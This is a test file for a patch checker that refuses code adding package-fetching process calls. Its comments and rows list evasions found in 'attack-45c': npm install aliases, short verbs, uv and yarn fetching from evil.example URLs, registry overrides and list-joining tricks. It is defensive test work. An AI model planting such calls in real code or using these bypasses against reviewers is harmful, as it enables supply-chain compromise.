import { describe, it } from 'vitest';
import { closedRows, type FindingRow, describeFindings, expectAccepted, expectRefused } from '../support/patches.js';

/**
 * Attack 45c (session 43): patches the check accepts although a process call they add fetches a package (or code from a
 * URL) and runs it, since session 43 reads a package manager's literal arguments one by one and passes the call when
 * none is in FETCHING_VERBS. Each row is `it.fails` while open: it asserts the refusal. "New" rows were refused before
 * session 43 (the blanket `'npm', '<anything>'` rule); "also before" rows were accepted before it too. All are fixed
 * (session 43): a package manager's literal arguments now pass only with a verb on a per-manager allow-list, the list
 * shown whole and joined to nothing.
 */
const PY = (call: string) => `import subprocess\nsubprocess.run(${call})`;

// attack-45c finding C1 (high, new; fixed, session 43): npm's own aliases of `install` (lib/utils/cmd-list.js: in, ins, inst, insta,
// instal, isnt, isnta, isntal, isntall; it = install-test) are not in FETCHING_VERBS: `npm isntall evil-pkg` fetches an
// attacker-published package and runs its install scripts in CI.
const NPM_INSTALL_ALIASES: FindingRow[] = [
  ...['isntall', 'in', 'ins', 'inst', 'insta', 'instal', 'isnt', 'isnta', 'isntal', 'it'].map(
    (verb): FindingRow => ['src/check.py', PY(`['npm', '${verb}', 'evil-pkg']`)],
  ),
  ['src/check.py', PY("['/usr/bin/npm', 'isntall', 'evil-pkg']")],
  ['src/check.py', PY("['npm', '--no-audit', 'isnt', 'evil-pkg'], check=True")],
  ['src/check.py', "await asyncio.create_subprocess_exec('npm', 'isntall', 'evil-pkg')"],
  ['src/check.go', 'exec.Command("npm", "isntall", "evil-pkg").Run()'],
];

// attack-45c finding C2 (high, new; fixed, session 43): npm's typo alias `innit` is `init`, and `npm init evil` is `npm exec create-evil`:
// the registry's create-evil is fetched and its bin run.
const NPM_INIT_ALIAS: FindingRow[] = [['src/check.py', PY("['npm', 'innit', 'evil']")]];

// attack-45c finding C3 (high, new; fixed, session 43): other managers' short forms of their fetching verbs: RubyGems takes any unambiguous
// prefix of a command (`gem ins` = install), Composer (Symfony Console) too (`composer req` = require), Bun's `a` is add
// and `c` is create.
const SHORT_FETCHING_VERBS: FindingRow[] = [
  ['src/check.py', PY("['gem', 'ins', 'evil']")],
  ['src/check.py', PY("['gem', 'inst', 'evil']")],
  ['src/check.py', PY("['composer', 'req', 'evil/pkg']")],
  ['src/check.py', PY("['composer', 'requ', 'evil/pkg']")],
  ['src/check.py', PY("['bun', 'a', 'evil-pkg']")],
  ['src/check.py', PY("['bun', 'c', 'evil']")],
];

// attack-45c finding C4 (high, new; fixed, session 43): verbs outside FETCHING_VERBS that fetch code and run it: `uv run <url>` runs a remote
// script (and a script's inline `# /// script` dependencies, which the patch can add unseen, are installed first),
// `yarn set version <url>` makes the downloaded file the repository's yarn, `yarn plugin import <url>` loads a
// downloaded plugin into every later yarn call, `npm pack github:x/y` clones and runs the repository's prepare script,
// `npm link <name>` installs a missing package globally first, `cargo -Zscript` builds a script's embedded
// dependencies (their build.rs runs), `pip lock` builds sdists' metadata (their setup.py runs).
const OTHER_FETCHING_VERBS: FindingRow[] = [
  ['src/check.py', PY("['uv', 'run', 'https://evil.example/x.py']")],
  ['src/check.py', PY("['uv', 'run', 'tools/x.py']")],
  ['src/check.py', PY("['yarn', 'set', 'version', 'https://evil.example/yarn.js']")],
  ['src/check.py', PY("['yarn', 'plugin', 'import', 'https://evil.example/plugin.js']")],
  ['src/check.py', PY("['npm', 'pack', 'github:evil/pkg']")],
  ['src/check.py', PY("['npm', 'link', 'evil-pkg']")],
  ['src/check.py', PY("['cargo', '+nightly', '-Zscript', 'tools/x.rs']")],
  ['src/check.py', PY("['pip', 'lock', 'evil-pkg']")],
  ['src/check.py', PY("['python', '-m', 'pip', 'lock', 'evil-pkg']")],
];

// attack-45c finding C5 (medium, new; fixed, session 43): updating verbs pointed at a registry the call names (an option or the
// environment): `npm update`/`up`/`upgrade`/`audit fix` install newer versions, served by the attacker's registry with
// no lockfile integrity to match.
const UPDATES_FROM_A_REGISTRY: FindingRow[] = [
  ['src/check.py', PY("['npm', 'update', '--registry=https://evil.example/']")],
  ['src/check.py', PY("['npm', 'upgrade', '--registry=https://evil.example/']")],
  ['src/check.py', PY("['npm', 'audit', 'fix', '--force', '--registry=https://evil.example/']")],
  ['src/check.py', PY("['npm', 'update'], env={'npm_config_registry': 'https://evil.example/'}")],
  ['src/check.py', PY("['pnpm', 'update', '--latest', '--registry=https://evil.example/']")],
];

// attack-45c finding C6 (high, new; fixed, session 43): the list read whole, then joined to more by a form JOINED_LIST does not know
// (only `] +` and `].concat`): a tuple (`) +`), a slice (`][:1] +`), an unpacking, a `list(…)` wrapper. The install
// words are in the second list, which no rule reads after the manager's name.
const JOINED_OTHERWISE: FindingRow[] = [
  ['src/check.py', PY("('npm',) + ('install', 'evil-pkg')")],
  ['src/check.py', PY("('npm', 'test')[:1] + ('install', 'evil-pkg')")],
  ['src/check.py', PY("['npm', 'test'][:1] + ['install', 'evil-pkg']")],
  ['src/check.py', PY("[*['npm', 'test'][:1], 'install', 'evil-pkg']")],
  ['src/check.py', PY("list(('npm',)) + ['install', 'evil-pkg']")],
];

// attack-45c finding C7 (high, new; fixed, session 43): the list closes on the last of the CALL_LINES lines read and is joined to the
// install words on the next: the window sees a closed literal list, the next windows no call.
const JOINED_PAST_THE_LINES_READ: FindingRow[] = [
  ['src/check.py', "import subprocess\nsubprocess.run([\n    'npm',\n    'test']\n    + ['install', 'evil-pkg'])"],
  ['src/check.py', "import subprocess\nsubprocess.run([\n    'npm', 'test',\n]\n+ ['install', 'evil-pkg'])"],
];

// attack-45c finding C8 (high, also before session 43; fixed, session 43): Node's `(program, [list])` form was never read by the blanket
// rule (it skipped a `[`), so a list joined by `.slice().concat`, npm's aliases and yarn's URL verbs there pass as
// before; a manager named with its Windows shim (`npm.cmd`) is read by no rule.
const ALSO_BEFORE: FindingRow[] = [
  ['src/check.js', "spawnSync('npm', ['isntall', 'evil-pkg'])"],
  ['src/check.js', "spawnSync('npm', ['test'].slice(1).concat(['install', 'evil-pkg']))"],
  ['src/check.js', "spawnSync('yarn', ['set', 'version', 'https://evil.example/yarn.js'])"],
  ['src/check.py', PY("['npm.cmd', 'install', 'evil-pkg']")],
  ['src/check.py', PY("['npm'] * 1 + ['install', 'evil-pkg']")],
];

describeFindings('attack-45c', [
  ['C1', closedRows(NPM_INSTALL_ALIASES)],
  ['C2', closedRows(NPM_INIT_ALIAS)],
  ['C3', closedRows(SHORT_FETCHING_VERBS)],
  ['C4', closedRows(OTHER_FETCHING_VERBS)],
  ['C5', closedRows(UPDATES_FROM_A_REGISTRY)],
  ['C6', closedRows(JOINED_OTHERWISE)],
  ['C7', closedRows(JOINED_PAST_THE_LINES_READ)],
  ['C8', closedRows(ALSO_BEFORE)],
]);

describe('attack-45c controls', () => {
  it.each([
    ['src/check.py', PY("['npm', 'test'], check=True")],
    ['src/check.js', "spawn('npm', ['run', 'build'], { stdio: 'inherit' })"],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));

  it.each([
    ['src/check.py', PY("['npm', 'install', 'evil-pkg']")],
    ['src/check.py', PY("['npm', 'test'] + ['install', 'evil-pkg']")],
    ['src/check.py', PY("['npm', 'x', 'evil-pkg']")],
    ['src/check.py', "import subprocess\nsubprocess.run([\n    'npm',\n    'test',\n    'install', 'evil-pkg'])"],
  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text, 'adds a dependency'));
});

/**
 * Session 43, the allow-list that closed attack-45c: a package manager's literal arguments pass only with a verb on its
 * allow-list, the list closed within the lines read and followed by nothing that joins, wraps or re-points it.
 */
describe('attack-45c: the allow-list of verbs (session 43)', () => {
  it.each([
    ['src/check.py', PY("['npm', 't']")],
    ['src/check.py', PY("['npm', '-s', 'test']")],
    ['src/check.py', PY("['pip', 'list']")],
    ['src/check.py', PY("['npm', 'test']).returncode")],
    ['src/check.py', "subprocess.run(['which', 'npm'])"],
    ['src/check.js', "const pm = 'npm';\nexecSync('echo hi');"],
    ['src/check.go', 'exec.Command("npm", "test").Run()'],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));

  it.each([
    // Verbs off the list, cased otherwise, or a manager with none (yarn alone is yarn install)
    ['src/check.py', PY("['npm', 'ci']")],
    ['src/check.py', PY("['npm', 'Install', 'x']")],
    ['src/check.py', PY("['NPM', 'install', 'x']")],
    ['src/check.py', PY("['yarn']")],
    ['src/check.js', "spawn('bun', ['test'])"],
    // Paths and shims
    ['src/check.py', PY("['./node_modules/.bin/npm', 'isntall', 'x']")],
    ['src/check.py', PY("['C:\\\\bin\\\\npm.exe', 'isntall', 'x']")],
    ['src/check.py', PY("['npm.ps1', 'ci']")],
    // A registry, an environment, options not shown
    ['src/check.py', PY("['npm', 'test', '--registry', 'https://evil.example/']")],
    ['src/check.py', PY("['npm', '--registry=https://evil.example/', 'test']")],
    ['src/check.py', PY("['npm', 'test'], env={'X': '1'}")],
    ['src/check.py', PY("['npm', 'test'], **kw")],
    ['src/check.py', PY("['npm', 'test'], cwd=')', env=e")],
    ['src/check.py', PY("['npm', 'test'],\n\n    env=e)")],
    ['src/check.js', "spawn('npm', ['test'], { ...opts })"],
    ['src/check.js', "spawn('npm', ['test'], { [k]: v })"],
    ['src/check.js', "spawn('npm', ['test'], opts)"],
    // Literals not plain, lists joined or wrapped
    ['src/check.py', PY("['npm', 'test' 'x']")],
    ['src/check.py', PY("['npm', u'test']")],
    ['src/check.py', PY("[*['npm', 'test'], 'install', 'x']")],
    ['src/check.py', PY("['npm', 'test'] if c else args")],
    ['src/check.py', PY("(['npm', 'test']) + ['install', 'x']")],
    ['src/check.py', PY("('npm', 'test').__add__(('install', 'x'))")],
    // Rust's builder going on past the call
    ['src/check.rs', 'Command::new("cargo").arg("install").arg("x").status()?;'],
    ['src/check.rs', 'Command::new("cargo").args(["install", "x"]).status()?;'],
    ['src/check.rs', 'Command::new("cargo").arg("test").env("X", "1").status()?;'],
  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text, 'adds a dependency'));
});
